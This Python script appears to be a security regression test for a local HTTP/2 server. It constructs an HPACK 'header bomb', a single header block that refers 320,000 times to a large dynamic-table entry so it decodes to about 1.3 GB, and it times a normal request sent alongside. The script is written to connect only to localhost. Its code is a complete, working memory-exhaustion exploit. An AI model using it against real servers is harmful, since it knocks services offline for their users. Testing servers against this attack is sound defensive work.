#!/usr/bin/env python3
"""An HPACK header bomb against `tlslab serve --alpn h2` (issue #38 defect 7), and a timed
ordinary request beside it.

The bomb: one HEADERS block (continued in CONTINUATION frames) that adds a 4,000-octet field to
the server's dynamic table with a literal, then names it again with one-octet indexed
representations (RFC 7541 §6.1: index 62, the newest dynamic entry), 320,000 times: 324 KB on the
wire, 1.3 GB of header list once decoded. A server that decodes the whole list before applying
SETTINGS_MAX_HEADER_LIST_SIZE grows by gigabytes; one that applies the limit while decoding
answers 431 (RFC 9113 §10.5.1) and stays small.

    h2-header-bomb.py PORT [--bombs N] [--refs N] [--probe-after SECONDS]

Prints one JSON object: for each bomb the stream's :status (or the GOAWAY code that ended the
connection), and the probe: the :status and seconds an ordinary GET on a second connection took
while the bombs were being sent. Needs Python's ssl (OpenSSL) and the `hpack` package (to read the
server's responses). Only ever connects to 127.0.0.1.
"""
import argparse, json, socket, ssl, struct, threading, time
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def connect(port):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", PORT), timeout=120)
    tls = context.wrap_socket(raw, server_hostname="localhost")
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    tls.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
    return tls


class Reader:
    """Reads frames; decodes response header blocks with the connection's HPACK decoder."""

    def __init__(self, tls):
        self.tls, self.buffer, self.decoder = tls, b"", hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.block, self.block_stream = b"", None

    def next(self):
        while len(self.buffer) < 9 or len(self.buffer) < 9 + int.from_bytes(self.buffer[:3], "big"):
            data = self.tls.recv(65536)
            if not data:
                return None
            self.buffer += data
        length = int.from_bytes(self.buffer[:3], "big")
        kind, flags = self.buffer[3], self.buffer[4]
        stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
        payload = self.buffer[9:9 + length]
        self.buffer = self.buffer[9 + length:]
        return kind, flags, stream, payload

    def status_of(self, wanted):
        """The :status of stream `wanted`, or ('GOAWAY', code) / ('RST', code) / ('closed', None)."""
        while True:
            got = self.next()
            if got is None:
                return ("closed", None)
            kind, flags, stream, payload = got
            if kind == SETTINGS and not flags & ACK:
                self.tls.sendall(frame(SETTINGS, ACK, 0, b""))
            elif kind == GOAWAY:
                return ("GOAWAY", int.from_bytes(payload[4:8], "big"))
            elif kind == RST_STREAM and stream == wanted:
                return ("RST", int.from_bytes(payload[:4], "big"))
            elif kind in (HEADERS, CONTINUATION):
                if kind == HEADERS:
                    pad = payload[0] if flags & 0x8 else 0
                    start = (1 if flags & 0x8 else 0) + (5 if flags & 0x20 else 0)
                    payload = payload[start:len(payload) - pad]
                    self.block_stream = stream
                self.block += payload
                if flags & END_HEADERS:
                    fields = dict(self.decoder.decode(self.block))
                    self.block = b""
                    if self.block_stream == wanted:
                        return (":status", fields.get(":status"))


def request_block(encoder):
    return encoder.encode([(":method", "GET"), (":scheme", "https"), (":path", "/"), (":authority", "localhost")])


def bomb_block(refs, entry):
    # Literal with incremental indexing, new name (RFC 7541 §6.2.1: 0x40, then name and value as
    # plain strings; lengths as 7-bit-prefix integers), then `refs` times index 62.
    def string(data):
        n = len(data)
        if n < 127:
            return bytes([n]) + data
        out, n = bytearray([127]), n - 127
        while n >= 128:
            out.append(n % 128 + 128)
            n //= 128
        out.append(n)
        return bytes(out) + data
    literal = b"\x40" + string(b"x-bomb") + string(b"a" * entry)
    # :method GET, :scheme https, :path / from the static table (indices 2, 7, 4).
    return b"\x82\x87\x84" + literal + b"\xbe" * refs


def send_block(tls, stream, block, end_stream=True):
    chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)] or [b""]
    out = b""
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream, chunk)
        else:
            out += frame(CONTINUATION, flags, stream, chunk)
    tls.sendall(out)


def main():
    global PORT
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("--bombs", type=int, default=6)
    parser.add_argument("--refs", type=int, default=320_000)
    parser.add_argument("--entry", type=int, default=4000)
    parser.add_argument("--probe-after", type=float, default=0.05)
    args = parser.parse_args()
    PORT = args.port
    results = {"bombs": [], "probe": None}

    def probe():
        time.sleep(args.probe_after)
        start = time.monotonic()
        tls = connect(PORT)
        send_block(tls, 1, request_block(hpack.Encoder()))
        status = Reader(tls).status_of(1)
        results["probe"] = {"status": status[1], "seconds": round(time.monotonic() - start, 3)}
        tls.close()

    tls = connect(PORT)
    reader = Reader(tls)
    prober = threading.Thread(target=probe)
    prober.start()
    bomb = bomb_block(args.refs, args.entry)
    for i in range(args.bombs):
        stream = 1 + 2 * i
        try:
            send_block(tls, stream, bomb)
            kind, value = reader.status_of(stream)
        except (ConnectionError, ssl.SSLError, socket.timeout) as error:
            kind, value = "error", str(error)
        results["bombs"].append({"stream": stream, kind: value})
        if kind != ":status":
            break
    prober.join(timeout=120)
    print(json.dumps(results))


if __name__ == "__main__":
    main()
